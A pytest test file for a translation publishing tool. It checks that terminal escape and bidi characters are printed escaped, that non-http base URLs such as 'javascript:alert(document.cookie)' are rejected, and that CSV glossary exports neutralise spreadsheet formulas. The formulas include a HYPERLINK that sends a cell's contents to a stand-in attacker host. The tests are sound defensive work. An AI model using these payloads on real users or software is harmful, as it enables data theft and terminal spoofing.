"""Hostile text that reaches a terminal, a spreadsheet or a link (issue 14, items 10, 12, 14).

- Whatever i18n-pub prints from a file (check lines, Error lines, file names) shows
  control and bidi characters as escapes; no command crashes on them.
- ``base-url`` must be http or https.
- A glossary exported as CSV quotes every cell a spreadsheet would run as a formula,
  and importing it back gives the original cells; a dot-file is not imported.
"""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import polib
import pytest

from tests.conftest import msgfmt_check, run_cli, tree_hashes

RAW = ("\x1b", "\x07", "\u202e", "\r", "\x85")  # what must never reach a terminal raw
SLUG = "badea-literacy-programme-africa"


def _no_raw(text: str) -> None:
    for char in RAW:
        assert char not in text, f"raw U+{ord(char):04X} printed: {text[:300]!r}"


def _hostile_catalog(site: Path) -> Path:
    """A catalog a translator's tool saved with a hostile translator comment and msgstrs (msgfmt -c accepts it)."""
    run_cli("translate", "-l", "fr", "--engine", "pseudo", "--quiet", cwd=site)
    path = site / "locales" / "fr" / f"{SLUG}.po"
    po = polib.pofile(str(path))
    entries = [e for e in po if e.msgid and not e.obsolete]
    entries[1].tcomment = "note \x1b]0;PWNED\x07 \u202eevil\u202c end"
    entries[1].msgstr = "\u202e" + entries[1].msgstr + " \rCR"
    entries[1].flags = []
    entries[2].msgstr = entries[2].msgstr + "  "  # trailing spaces: a finding that quotes the entry
    entries[2].flags = []
    po.save(str(path))
    msgfmt_check(path)
    return path


@pytest.mark.parametrize(
    "command",
    [("check", "-l", "fr"), ("check", "-l", "fr", "--json"), ("review", "-l", "fr"), ("status", "-l", "fr"),
     ("translate", "-l", "fr", "--engine", "pseudo"), ("publish", "-l", "fr")],
)
def test_hostile_comments_and_translations_are_printed_escaped_and_crash_nothing(site, command):
    _hostile_catalog(site)
    done = run_cli(*command, cwd=site, check=None)
    assert done.returncode in (0, 1) and "Traceback" not in done.stderr, done.stderr
    _no_raw(done.stdout + done.stderr)
    if "--json" in command:
        json.loads(done.stdout)  # still a JSON document
    if command[0] == "review":
        assert "build/review/fr.html" in done.stdout


def test_an_error_line_escapes_a_hostile_file_name(site):
    bad = site / "glossary" / "evil\x1b[31m\u202e.csv"
    bad.write_text("en,xx-colour\nterm,x\n", "utf-8")  # an unknown column: an error naming the file
    done = run_cli("translate", "-l", "fr", "--engine", "none", cwd=site, check=1)
    assert done.stderr.count("\n") == 1 and "Traceback" not in done.stderr
    _no_raw(done.stderr)
    assert "evil\\x1b[31m\\u202e.csv" in done.stderr


@pytest.mark.parametrize(
    "cell, command",
    [("Evil\x1b[31m", ("glossary", "export", "--format", "tbx")), ("Mal\u202e", ("glossary", "export", "--format", "csv")),
     ("bell\x07", ("review", "-l", "fr")), ("Mal\u202e", ("translate", "-l", "fr", "--engine", "none"))],
)
def test_a_glossary_cell_with_an_invisible_character_is_one_error_line(site, cell, command):
    (site / "glossary" / "evil.csv").write_text(f"en,fr\nEvil term,{cell}\n", "utf-8")
    before = tree_hashes(site)
    done = run_cli(*command, cwd=site, check=1)
    assert "Traceback" not in done.stderr and done.stderr.count("\n") == 1, done.stderr
    assert re.fullmatch(r"Error: glossary/evil\.csv:2: U\+\w+ .* in the 'fr' cell — .+\n", done.stderr), done.stderr
    _no_raw(done.stderr)
    assert tree_hashes(site) == before


@pytest.mark.parametrize("url", ["javascript:alert(document.cookie)", "JavaScript:alert(1)", "data:text/html,<b>x</b>",
                                 "ftp://example.org/news", "//example.org/news", "example.org/news", "https://"])
def test_base_url_must_be_http_or_https(site, url):
    config = site / "pyproject.toml"
    config.write_text(config.read_text("utf-8").replace('base-url = "https://example.org/news"', f'base-url = "{url}"'), "utf-8")
    for command in (("publish", "-l", "fr"), ("status",)):
        done = run_cli(*command, cwd=site, check=1)
        assert re.fullmatch(
            r"Error: pyproject\.toml:\d+: 'base-url' in \[tool\.i18n-pub\.feed\] must be an http or https address, not .+ — .+\n",
            done.stderr,
        ), done.stderr


@pytest.mark.parametrize("url", ["http://example.org/news", "HTTPS://example.org/news/"])
def test_http_and_https_base_urls_are_accepted(site, url):
    config = site / "pyproject.toml"
    config.write_text(config.read_text("utf-8").replace('base-url = "https://example.org/news"', f'base-url = "{url}"'), "utf-8")
    run_cli("status", cwd=site)


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "=1+1"]


def test_csv_export_quotes_formula_cells_and_import_restores_them(site, tmp_path):
    rows = [["en", "fr", "note"], *[[f"Term {i}", value, value] for i, value in enumerate(FORMULAS)]]
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (site / "glossary" / "formulas.csv").write_text(out.getvalue(), "utf-8")
    exported = run_cli("glossary", "export", "--format", "csv", cwd=site).stdout
    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]  # nothing a spreadsheet would run
    for value in FORMULAS:
        assert cells.count("'" + value) == 2  # shown as text in the fr and the note column
    # Imported again, the apostrophes go: the glossary holds the original cells.
    (site / "glossary" / "formulas.csv").unlink()
    again = tmp_path / "formulas.csv"
    again.write_text(exported, "utf-8")
    run_cli("glossary", "import", str(again), cwd=site)
    imported = {
        row["en"]: (row["fr"], row["note"]) for row in csv.DictReader(io.StringIO((site / "glossary/formulas.csv").read_text("utf-8")))
    }
    assert {imported[f"Term {i}"] for i in range(len(FORMULAS))} == {(v, v) for v in FORMULAS}


def test_importing_a_dot_file_is_refused_and_writes_nothing(site, tmp_path):
    hidden = tmp_path / ".hidden.csv"
    hidden.write_text("en,fr\nHidden term,Terme caché\n", "utf-8")
    before = tree_hashes(site)
    done = run_cli("glossary", "import", str(hidden), cwd=site, check=1)
    assert re.fullmatch(r"Error: \S*\.hidden\.csv: a file name that starts with a dot.* — rename it without the dot.*\n", done.stderr)
    assert "wrote" not in done.stdout
    assert tree_hashes(site) == before and not (site / "glossary" / ".hidden.csv").exists()
